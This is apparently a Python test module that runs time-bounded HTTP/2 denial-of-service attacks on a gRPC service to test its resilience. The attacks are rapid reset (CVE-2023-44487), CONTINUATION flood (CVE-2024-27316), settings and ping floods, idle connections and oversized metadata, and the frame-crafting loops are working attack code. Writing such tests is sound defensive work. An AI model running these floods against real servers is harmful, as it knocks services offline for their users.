"""Attacks with HTTP/2, each bounded in time. Only the standard library is imported here."""

import ssl
import time
from collections import Counter
from collections.abc import Callable
from typing import Final

from tests.mtls.attacks import Script, hold
from tests.mtls.http2 import (
    CANCEL,
    MAX_FRAME_BYTES,
    PREFACE,
    Flag,
    Frame,
    call_headers,
    frame,
    header_block,
)
from tests.mtls.target import Target

_AT_ONCE: Final = 200  # frames that are sent in one go
_LARGE_BYTES: Final = 1_000_000
_ALLOWED_BYTES: Final = 12_000
_READ_BYTES: Final = 64 * 1024
_PATIENCE_SECONDS: Final = 0.05
_CALL: Final = "/videoqueue.v1.VideoQueue/ListVideos"
_EMPTY_MESSAGE: Final = bytes(5)  # gRPC's prefix alone: not compressed, no bytes
_GREETING: Final = PREFACE + frame(Frame.SETTINGS)


def idle(target: Target, seconds: float, connections: int) -> Counter[str]:
    """Become a client of HTTP/2 in full, and call nothing."""
    return hold(target.connect_tls, seconds, connections, lambda: iter((_GREETING,)))


def rapid_reset(target: Target, seconds: float, connections: int) -> Counter[str]:
    """Make calls and take them back in the same breath (CVE-2023-44487)."""
    headers = call_headers(_CALL, ("on-behalf-of", "spiffe://video-demo.test/client/uploader"))

    def script() -> Script:
        for first in range(1, 2**31, 2 * _AT_ONCE):
            yield b"".join(
                frame(Frame.HEADERS, headers, stream, Flag.END_HEADERS)
                + frame(Frame.DATA, _EMPTY_MESSAGE, stream, Flag.END_STREAM)
                + frame(Frame.RST_STREAM, CANCEL.to_bytes(4), stream)
                for stream in range(first, first + 2 * _AT_ONCE, 2)
            )

    return _speak(target, seconds, script)


def settings(target: Target, seconds: float, connections: int) -> Counter[str]:
    """Change the settings without end: each change asks for an acknowledgement."""
    return _speak(target, seconds, lambda: _for_ever(frame(Frame.SETTINGS) * _AT_ONCE))


def deaf_settings(target: Target, seconds: float, connections: int) -> Counter[str]:
    """Change the settings without end, and never read an acknowledgement."""
    return _speak(target, seconds, lambda: _for_ever(frame(Frame.SETTINGS) * _AT_ONCE), deaf=True)


def pings(target: Target, seconds: float, connections: int) -> Counter[str]:
    """Ask without end whether the server is there."""
    return _speak(target, seconds, lambda: _for_ever(frame(Frame.PING, bytes(8)) * _AT_ONCE))


def continuation(target: Target, seconds: float, connections: int) -> Counter[str]:
    """Begin the headers of one call, and go on with them for ever (CVE-2024-27316)."""
    more = frame(Frame.CONTINUATION, header_block([("x-more", "a" * 1000)] * 16), 1)

    def script() -> Script:
        yield frame(Frame.HEADERS, call_headers(_CALL), 1)
        yield from _for_ever(more)

    return _speak(target, seconds, script)


def large_metadata(target: Target, seconds: float, connections: int) -> Counter[str]:
    """Make calls with metadata of a megabyte."""
    headers = call_headers(_CALL) + header_block([("x-large", "a" * _LARGE_BYTES)])
    return _speak(target, seconds, lambda: _calls(headers, Flag.NONE))


def no_request(target: Target, seconds: float, connections: int) -> Counter[str]:
    """Make calls that end before their request; their metadata is as large as is allowed."""
    headers = call_headers(_CALL) + header_block([("x-large", "a" * _ALLOWED_BYTES)])
    return _speak(target, seconds, lambda: _calls(headers, Flag.END_STREAM))


def _calls(headers: bytes, flags: Flag) -> Script:
    first, *rest = (
        headers[at : at + MAX_FRAME_BYTES] for at in range(0, len(headers), MAX_FRAME_BYTES)
    )
    for stream in range(1, 2**31, 2):
        if not rest:
            yield frame(Frame.HEADERS, first, stream, flags | Flag.END_HEADERS)
            continue
        yield frame(Frame.HEADERS, first, stream, flags)
        for part in rest[:-1]:
            yield frame(Frame.CONTINUATION, part, stream)
        yield frame(Frame.CONTINUATION, rest[-1], stream, Flag.END_HEADERS)


def _for_ever(piece: bytes) -> Script:
    while True:
        yield piece


def _speak(
    target: Target, seconds: float, script: Callable[[], Script], *, deaf: bool = False
) -> Counter[str]:
    """Connect, send what the script says until the server ends it, and come again."""
    made: Counter[str] = Counter()
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            with target.connect_tls() as connection:
                made["opened"] += 1
                connection.settimeout(_PATIENCE_SECONDS)
                connection.sendall(_GREETING)
                for piece in script():
                    _send(connection, piece, until, made, deaf=deaf)
                    if time.monotonic() > until:
                        return made
        except OSError:
            made["ended by the server"] += 1
    return made


def _send(
    connection: ssl.SSLSocket, piece: bytes, until: float, made: Counter[str], *, deaf: bool
) -> None:
    """Send a piece, and read what has come meanwhile. Raises `OSError` at the connection's end."""
    left = memoryview(piece)
    while left and time.monotonic() < until:
        try:
            left = left[connection.send(left) :]
        except TimeoutError:
            made["had to wait"] += 1
        if not deaf:
            _read(connection, made)
    made["bytes"] += len(piece) - len(left)


def _read(connection: ssl.SSLSocket, made: Counter[str]) -> None:
    connection.settimeout(0)
    try:
        while data := connection.recv(_READ_BYTES):
            made["bytes read"] += len(data)
            if b"too_many_pings" in data:
                made["sent away"] += 1
        raise ConnectionAbortedError
    except ssl.SSLWantReadError:
        pass
    finally:
        connection.settimeout(_PATIENCE_SECONDS)
